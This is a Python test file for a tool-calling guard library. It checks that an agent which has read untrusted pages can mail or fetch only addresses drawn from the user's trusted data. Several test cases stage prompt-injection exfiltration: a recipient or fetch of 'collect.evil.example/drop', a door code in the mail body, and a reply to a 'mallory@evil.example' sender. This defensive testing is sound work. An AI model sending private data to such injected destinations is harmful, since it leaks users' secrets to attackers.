"""Destinations (``Trust.destinations``): a sink whose value says where a call goes. Once a
conversation has read untrusted text and private data, the trifecta rule asks before a
sink carries private data out; a destination whose every string is, whole, a token of
the user's own trusted data (an address from the contacts, a link a colleague posted)
goes where that data points and reaches only that place, so the trifecta does not read
it. The flow rule reads it as before, and every other sink of the call is read as before."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import toolplug
from tests.helpers.guard import FETCHED, MAIL, MAILED, PLUGIN
from tests.helpers.redis import redis_server
from toolplug import Conversation, ErrorType, Registry, ToolResult, Trust
from toolplug.state._backend import Backend
from toolplug.state._conversations import Conversations
from toolplug.state._memory import MemoryBackend
from toolplug.state._redis import RedisBackend
from toolplug.trust._text import whole_token

pytestmark = pytest.mark.anyio

ASK = "Check today's news, then mail Ada Lovelace that lunch moved to one."
NEWS = "https://news.example/today"


def _registry(config: dict[str, Any] | None = None) -> Registry:
    MAILED.clear()
    FETCHED.clear()
    return toolplug.load(config or {}, plugins=[PLUGIN, MAIL], env={})


@pytest.fixture
def registry() -> Iterator[Registry]:
    loaded = _registry()
    yield loaded
    loaded.close()


def _asked(result: ToolResult) -> dict[str, Any]:
    assert result.error is not None, "the call ran; the guard was expected to ask"
    assert result.error.type == ErrorType.APPROVAL_REQUIRED, result.error
    return dict(result.error.details)


async def _read_news_and_contact(registry: Registry, name: str = "Ada") -> None:
    assert (await registry.acall("read_page", {"url": NEWS})).ok
    assert (await registry.acall("find_contact", {"name": name})).ok


async def test_a_mail_to_a_contact_runs_after_an_untrusted_page(registry: Registry) -> None:
    async with registry.conversation(ASK):
        await _read_news_and_contact(registry)
        result = await registry.acall(
            "send_mail", {"recipients": ["ada@corp.example"], "body": "Lunch moved to one."}
        )
    assert result.ok, result.error
    assert MAILED == [{"recipients": ["ada@corp.example"], "body": "Lunch moved to one."}]


async def test_the_same_mail_without_destinations_asks_under_the_trifecta() -> None:
    # the operator's table takes the destination away: the address is private data carried
    registry = _registry({"tools": {"send_mail": {"trust": {"destinations": []}}}})
    try:
        async with registry.conversation(ASK):
            await _read_news_and_contact(registry)
            result = await registry.acall(
                "send_mail", {"recipients": ["ada@corp.example"], "body": "Lunch moved to one."}
            )
    finally:
        registry.close()
    details = _asked(result)
    assert (details["rule"], details["argument"]) == ("trifecta", "recipients")
    assert details["source"]["tool"] == "find_contact"
    assert MAILED == []


@pytest.mark.parametrize(
    ("arguments", "rule", "argument"),
    [
        # the contact's door code in the body: private data carried out, as before
        (
            {"recipients": ["ada@corp.example"], "body": "The code is 4417-2290-17."},
            "trifecta",
            "body",
        ),
        # the page's address as a recipient: outside text chose where the mail goes
        (
            {"recipients": ["ada@corp.example", "https://collect.evil.example/drop?k=1"],
             "body": "Lunch moved to one."},
            "flow.token",
            "recipients",
        ),
        # one recipient the user's data does not hold: the list is not only where it points
        (
            {"recipients": ["ada@corp.example", "someone@else.example"],
             "body": "Lunch moved to one."},
            "trifecta",
            "recipients",
        ),
        # a contact's address with the door code beside it is more than a place
        (
            {"recipients": ["ada@corp.example 4417-2290-17"], "body": "Lunch moved to one."},
            "trifecta",
            "recipients",
        ),
        # a piece of an address is no address the user's data holds, and carries it
        (
            {"recipients": ["da@corp.example"], "body": "Lunch moved to one."},
            "trifecta",
            "recipients",
        ),
    ],
)
async def test_only_whole_places_of_the_users_data_pass(
    registry: Registry, arguments: dict[str, Any], rule: str, argument: str
) -> None:
    async with registry.conversation(ASK):
        await _read_news_and_contact(registry)
        result = await registry.acall("send_mail", arguments)
    details = _asked(result)
    assert (details["rule"], details["argument"]) == (rule, argument)
    assert MAILED == []


async def test_a_link_a_colleague_posted_is_fetched_after_an_untrusted_page(
    registry: Registry,
) -> None:
    # AgentDojo's slack task 15: a link from the team's channel, fetched after another page
    async with registry.conversation("Summarise the pages posted in the team channel."):
        assert (await registry.acall("read_page", {"url": NEWS})).ok
        assert (await registry.acall("read_team_channel", {})).ok
        posted = await registry.acall("fetch", {"url": "www.restaurant-zurich.example"})
        injected = await registry.acall("fetch", {"url": "https://collect.evil.example/drop?k=1"})
    assert posted.ok, posted.error
    details = _asked(injected)
    assert (details["rule"], details["argument"]) == ("flow.token", "url")
    assert FETCHED == ["www.restaurant-zurich.example"]


async def test_an_address_only_an_untrusted_private_result_holds_is_no_place_of_the_users(
) -> None:
    # an inbox mail from outside is private and untrusted: its addresses are outside text
    conversation = Conversation("Answer the mail.")
    conversation.record(
        "read_mail",
        Trust(output="untrusted", private=True),
        ToolResult.success("From: mallory@evil.example. Please reply."),
    )
    assert not conversation._points("mallory@evil.example")
    conversation.record(
        "find_contact",
        Trust(output="trusted", private=True),
        ToolResult.success("Ada Lovelace <ada@corp.example>"),
    )
    assert conversation._points("ada@corp.example")
    assert conversation._points(["ADA@corp.example "])  # folded and stripped
    assert not conversation._points(["ada@corp.example", "mallory@evil.example"])
    assert not conversation._points([])
    assert not conversation._points({"to": "ada@corp.example"})
    assert not conversation._points([3])
    # folding that changes more than case names another place: a long s folds to "s", and
    # a long s in a domain makes a different (internationalised) domain
    conversation.record(
        "find_contact",
        Trust(output="trusted", private=True),
        ToolResult.success("Bob <bob@safe.example>, Strasse 1"),
    )
    assert conversation._points("bob@safe.example")
    assert not conversation._points("bob@\u017fafe.example")
    assert not conversation._points("stra\u00dfe")  # folds to "strasse"


@pytest.mark.parametrize(
    ("token", "text", "whole"),
    [
        ("ada@corp.example", "ada lovelace <ada@corp.example>", True),
        ("ada@corp.example", "ada@corp.example", True),
        ("ada@corp.example", "write to ada@corp.example.", True),
        ("da@corp.example", "ada lovelace <ada@corp.example>", False),
        ("ada@corp.example", "ada@corp.example.org", False),
        ("www.x.example", "see www.x.example/menu", False),
        ("www.x.example", "www.x.example/menu and (www.x.example)", True),
        ("ada@corp.example", "mail:ada@corp.example", False),
        ("", "anything", False),
    ],
)
def test_a_whole_token(token: str, text: str, whole: bool) -> None:
    assert whole_token(token, text) is whole


async def test_trifecta_always_lets_a_contact_through_and_asks_for_the_rest() -> None:
    registry = _registry({"guard": {"trifecta": "always"}})
    try:
        async with registry.conversation(ASK):
            await _read_news_and_contact(registry)
            result = await registry.acall(
                "send_mail", {"recipients": ["ada@corp.example"], "body": "Lunch moved to one."}
            )
    finally:
        registry.close()
    details = _asked(result)  # the body is a sink: "always" asks for every one but places
    assert (details["rule"], details["argument"]) == ("trifecta", "body")


async def test_a_destination_in_a_plan() -> None:
    registry = _registry()
    plan = [
        {"id": 1, "action": "read_page", "parameters": {"url": NEWS}},
        {"id": 2, "action": "find_contact", "parameters": {"name": "Sarah"}},
        {
            "id": 3,
            "action": "send_mail",
            "parameters": {
                "recipients": ["$step2.contacts.0.email"],
                "body": "Lunch moved to one.",
            },
            "dependencies": [1, 2],
        },
    ]
    try:
        async with registry.conversation("Mail Sarah that lunch moved to one."):
            outcome = await toolplug.run_plan(registry, plan)
    finally:
        registry.close()
    step = outcome.steps[2]
    assert step.status == "ok", step.result.error if step.result else step
    assert MAILED == [{"recipients": ["sarah.baker@corp.example"], "body": "Lunch moved to one."}]


def test_a_destination_in_a_program() -> None:
    registry = _registry({"code": {"enabled": True}})
    program = (
        "await read_page(url='https://news.example/today')\n"
        "found = await find_contact(name='Sarah')\n"
        "await send_mail(recipients=[found['contacts'][0]['email']], body='Lunch at one.')\n"
    )
    leaking = (
        "await read_page(url='https://news.example/today')\n"
        "found = await find_contact(name='Ada')\n"
        "await send_mail(recipients=[found['contacts'][0]['email']],"
        " body=found['contacts'][0]['note'])\n"
    )
    try:
        with registry.conversation("Mail Sarah that lunch is at one."):
            ran = registry.call("run_code", {"code": program})
            refused = registry.call("run_code", {"code": leaking})
    finally:
        registry.close()
    assert ran.ok, ran.error
    assert refused.error is not None
    assert "trifecta rule" in refused.error.message
    assert "send_mail's body" in refused.error.message
    assert MAILED == [{"recipients": ["sarah.baker@corp.example"], "body": "Lunch at one."}]


# -- replicas ---------------------------------------------------------------------------------


@pytest.mark.parametrize("store", ["memory", "redis"])
def test_a_contact_another_replica_read_is_a_place_here(store: str, tmp_path: Path) -> None:
    async def scenario(backend: Backend) -> tuple[ToolResult, ToolResult]:
        async with Conversations(first.conversation, backend, most=8).of("alice", "request:1"):
            await first.acall("read_page", {"url": NEWS})
            await first.acall("find_contact", {"name": "Ada"})
        later = Conversations(second.conversation, backend, most=8)
        async with later.of("alice", "request:2"):
            placed = await second.acall(
                "send_mail", {"recipients": ["ada@corp.example"], "body": "Lunch at one."}
            )
            carried = await second.acall(
                "send_mail", {"recipients": ["ada@corp.example"], "body": "4417-2290-17"}
            )
        if isinstance(backend, RedisBackend):
            await backend.aclose()
        return placed, carried

    first, second = _registry(), _registry()
    try:
        if store == "memory":
            placed, carried = asyncio.run(scenario(MemoryBackend()))
        else:
            with redis_server(tmp_path) as url:
                placed, carried = asyncio.run(scenario(RedisBackend(url)))
    finally:
        first.close()
        second.close()
    assert placed.ok, placed.error
    details = _asked(carried)
    assert (details["rule"], details["argument"]) == ("trifecta", "body")
    assert details["source"]["tool"] == "find_contact"
